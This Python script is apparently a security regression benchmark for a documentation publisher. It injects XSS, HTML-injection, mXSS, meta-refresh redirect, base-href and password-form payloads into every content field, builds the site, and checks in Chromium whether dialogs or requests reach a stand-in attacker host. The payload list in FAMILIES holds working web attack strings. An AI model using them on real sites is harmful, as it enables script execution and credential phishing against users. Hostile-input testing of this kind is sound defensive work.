"""The hostile build of security review 2, re-run: every string field of every content file gets an attack
payload, validation refuses what it refuses (those payloads are taken out, as the review did), the rest is
built, and every page is opened in Chromium twice, served by `painguide serve`'s app (with its CSP header)
and from disk (file://, meta CSP only). Prints one table of what got through.

    python bench/hostile.py                 # the real corpus (a few minutes)
    python bench/hostile.py --content tests/data/guidelines --pages 40
"""

from __future__ import annotations

import argparse
import shutil
import sys
import tempfile
import time
import zipfile
from collections import Counter
from itertools import cycle
from pathlib import Path
from xml.etree import ElementTree

import yaml

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from painguide import publish  # noqa: E402
from painguide.content import walk  # noqa: E402
from painguide.content.problems import field_path  # noqa: E402
from painguide.content.validate import validate  # noqa: E402
from tests.helpers import CHROMIUM, CHROMIUM_ARGS, MKDOCS, REAL_CONTENT, serving  # noqa: E402

ATTACKER = "127.0.0.1:8619"
CONFIG = f'{{"base":"http://{ATTACKER}/","features":[],"translations":{{}},"search":"http://{ATTACKER}/w.js"}}'
# (family, payload): the review's families, the first review's, and the ones that failed in review 2.
FAMILIES = [
    ("config-code", f'<code id="__config">{CONFIG}</code>'),
    ("config-span", '<span id="__config">x</span>'),
    ("config-attr-list", "x {: #__config }"),
    ("mermaid", '<pre class="mermaid">graph TD; A---B</pre>'),
    ("unclosed-tags", "<b " * 300),
    ("deep-list", "* " * 1000 + "x"),
    ("noncharacter", "\ufffe \uffff"),
    ("gift-weight", "%50% 4"),
    ("gift-format", "[markdown]x"),
    ("cds-markdown", f"[P6a](javascript:alert(6)) ![P6b](http://{ATTACKER}/p6.png)"),
    ("svg-onload", "<svg/onload=alert(101)>"),
    ("attr-break", '"><img src=x onerror=alert(102)>'),
    ("title-break", "</title><script>alert(103)</script>"),
    ("base", f'<base href="http://{ATTACKER}/">'),
    ("refresh", f'<meta http-equiv="refresh" content="0;url=http://{ATTACKER}/phish">'),
    ("quote-break", "' onmouseover='alert(106)' x='"),
    ("script-link", "[click](javascript:alert(108))"),
    ("template", "{{ config.site_name }}{% include 'base.html' %}"),
    ("entities", "&lt;img src=x onerror=alert(110)&gt;"),
    ("srcdoc", '<iframe srcdoc="<script>alert(111)</script>"></iframe>'),
    ("mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(112)>"),
    ("remote-image", f"![pixel](http://{ATTACKER}/p.gif)"),
    ("form", f'<form action="http://{ATTACKER}/s"><input type="password" name="p"></form>'),
    ("obfuscated-links", "[x](jav&#x61;script:alert(204)) [z](java\tscript:alert(206))"),
    ("data-link", '<a href="data:text/html,<script>alert(207)</script>">d</a>'),
    ("ontoggle", "<details open ontoggle=alert(208)>x</details>"),
    ("attr-handler", 'Paragraph\n{: onclick="alert(210)" }'),
    ("comment", "<!-- <script>alert(211)</script> -->"),
]
HOSTILE_URL = f"https://{ATTACKER}/x){{:#__config}}"


def _inject(root: Path) -> dict[tuple[str, str], str]:
    """Append a payload to every string of every file; returns (file, field) -> family."""
    injected: dict[tuple[str, str], str] = {}
    families = cycle(FAMILIES)
    for path in sorted(root.rglob("*.yaml")):
        rel = path.relative_to(root).as_posix()
        if rel == "codes.yaml":
            continue  # its display strings must equal the entries' (a payload in one is refused in the other)
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        answers = {text for loc, text in walk.strings(data) if loc and loc[-1] == "answer"}
        for loc, text in list(walk.strings(data)):
            if (loc and loc[-1] in {"id", "type", "component", "entry", "system", "kind", "answer"}) or text.isdigit():
                continue  # ids and enums: a payload there only renames or retypes the entry
            if len(loc) > 1 and loc[-2] == "choices" and text in answers:
                continue  # the keyed choice must equal its answer: wrong choices carry the payloads
            family, payload = next(families)
            if loc and loc[-1] == "url":
                family, payload = "source-url-attr-list", ""
            node = data
            for part in loc[:-1]:
                node = node[part]
            node[loc[-1]] = HOSTILE_URL if family == "source-url-attr-list" else f"{text} {payload}"
            injected[(rel, field_path(loc))] = family
        path.write_text(yaml.safe_dump(data, allow_unicode=False, width=10**6, sort_keys=False), encoding="utf-8")
    return injected


def _take_out(root: Path, original: Path, refused: set[tuple[str, str]], whole: set[str]) -> None:
    for rel in {r for r, _ in refused} | whole:
        hostile = yaml.safe_load((root / rel).read_text(encoding="utf-8"))
        clean = yaml.safe_load((original / rel).read_text(encoding="utf-8"))
        if rel in whole:
            shutil.copy(original / rel, root / rel)
            continue
        clean_values = dict(walk.strings(clean))
        for loc, _ in list(walk.strings(hostile)):
            if (rel, field_path(loc)) in refused and loc in clean_values:
                node = hostile
                for part in loc[:-1]:
                    node = node[part]
                node[loc[-1]] = clean_values[loc]
        (root / rel).write_text(yaml.safe_dump(hostile, allow_unicode=False, width=10**6, sort_keys=False), "utf-8")


def _validate_until_clean(root: Path, original: Path, injected: dict[tuple[str, str], str]) -> Counter[str]:
    refused: Counter[str] = Counter()
    for _ in range(12):
        _, problems = validate(root)
        if not problems:
            return refused
        hits: set[tuple[str, str]] = set()
        whole: set[str] = set()
        for problem in problems:
            rel = Path(problem.path).resolve().relative_to(root.resolve()).as_posix()
            keys = [k for k in injected if k[0] == rel and problem.field and k[1].endswith(problem.field)]
            if "character U+" in problem.message:  # the loader reports the first such character of a file only
                keys += [k for k, family in injected.items() if k[0] == rel and family == "noncharacter"]
            if keys:
                hits.update(keys)
            else:
                whole.add(rel)
        for key in hits:
            refused[injected.pop(key)] += 1
        for rel in whole:
            for key in [k for k in injected if k[0] == rel]:
                refused[injected.pop(key)] += 1
        _take_out(root, original, hits, whole)
    raise SystemExit("still invalid after taking out the refused payloads:\n" + "\n".join(map(str, problems[:20])))


def _xml_check(build: Path) -> tuple[int, int]:
    files = bad = 0
    for package in (build / "current" / "downloads").rglob("*.imscc"):
        with zipfile.ZipFile(package) as archive:
            for name in archive.namelist():
                if name.endswith(".xml"):
                    files += 1
                    try:
                        ElementTree.fromstring(archive.read(name))
                    except ElementTree.ParseError:
                        bad += 1
    return files, bad


def _gift_weights(build: Path) -> int:
    import re

    weight = re.compile(r"^\s*[~=]%-?[0-9]{1,2}\.?[0-9]*%", re.MULTILINE)
    return sum(len(weight.findall(p.read_text(encoding="utf-8"))) for p in (build / "current").rglob("*.gift"))


def _browse(urls: list[str]) -> dict[str, int]:
    from playwright.sync_api import sync_playwright

    seen: Counter[str] = Counter()
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        for url in urls:
            context = browser.new_context(viewport={"width": 390, "height": 844})  # the header search button
            page = context.new_page()
            page.on("dialog", lambda d: (seen.update(["dialogs"]), d.dismiss()))
            page.on("pageerror", lambda e: seen.update(["page errors"]))
            page.on(
                "console",
                lambda m: seen.update(["CSP reports"]) if "Content Security Policy" in m.text else None,
            )
            page.on(
                "requestfinished",
                lambda r: seen.update(["requests reaching another host"]) if ATTACKER in r.url else None,
            )
            page.on(
                "requestfailed",
                lambda r: (
                    seen.update(["requests to another host, blocked"])
                    if ATTACKER in r.url and r.failure == "csp"
                    else (seen.update(["requests reaching another host"]) if ATTACKER in r.url else None)
                ),
            )
            try:
                page.goto(url, wait_until="load", timeout=20_000)
                page.wait_for_timeout(150)
                if page.locator("label.md-header__button[for=__search]").count():
                    page.click("label.md-header__button[for=__search]", timeout=3000)
                    page.fill("input.md-search__input", "pain", timeout=3000)
                    page.wait_for_timeout(300)
                    if not page.locator(".md-search-result__item").count():
                        seen["pages where search did not answer"] += 1
                        print(f"  no search answer: {url}")
            except Exception as exc:
                seen["pages that failed to load or respond"] += 1
                if seen["pages that failed to load or respond"] <= 3:
                    print(f"  {url}: {str(exc).splitlines()[0]}")
            context.close()
        browser.close()
    seen["pages"] = len(urls)
    return dict(seen)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--content", type=Path, default=REAL_CONTENT)
    parser.add_argument("--pages", type=int, default=0, help="open only the first N pages (0: all)")
    args = parser.parse_args()
    work = Path(tempfile.mkdtemp(prefix="pg-hostile-"))
    root = work / "content"
    shutil.copytree(args.content, root)
    injected = _inject(root)
    total = Counter(injected.values())
    started = time.perf_counter()
    refused = _validate_until_clean(root, args.content, injected)
    validate_s = time.perf_counter() - started
    started = time.perf_counter()
    try:
        publish.build(root, work / "build", MKDOCS)
    except BaseException as exc:  # mkdocs' Abort is a SystemExit: it would end the run without a word
        # valid content that does not build is itself a finding (issue 21: every input that validates builds)
        raise SystemExit(f"the validated hostile content did not build ({exc!r}); it is kept in {root}") from exc
    build_s = time.perf_counter() - started
    site = work / "build" / "current" / "site"
    pages = sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html"))
    if args.pages:
        pages = pages[: args.pages]
    with serving(work / "build") as base:
        served = _browse([f"{base}/{p}" for p in pages])
    # 404.html links to the site root ("/"), which from disk is the file system root: served only
    offline = _browse([(site / p).resolve().as_uri() for p in pages if p != "404.html"])
    xml_files, xml_bad = _xml_check(work / "build")
    print(f"\ninjections: {sum(total.values())} in {len(total)} families; refused by validate: {sum(refused.values())}")
    print(f"validate (until clean) {validate_s:.1f} s; build {build_s:.1f} s\n")
    print("| family | injected | refused | built |\n|---|---|---|---|")
    for family, count in sorted(total.items()):
        print(f"| {family} | {count} | {refused[family]} | {count - refused[family]} |")
    keys = sorted(set(served) | set(offline))
    print("\n| observed | served | file:// |\n|---|---|---|")
    for key in keys:
        print(f"| {key} | {served.get(key, 0)} | {offline.get(key, 0)} |")
    body_ids = sum((site / p).read_text(encoding="utf-8").count('id="__config"') - 1 for p in pages)
    print(f"\nextra #__config elements in pages: {body_ids}")
    weights = _gift_weights(work / "build")
    print(f"XML files in cartridges: {xml_files}, not well-formed: {xml_bad}; GIFT answer weights: {weights}")
    shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
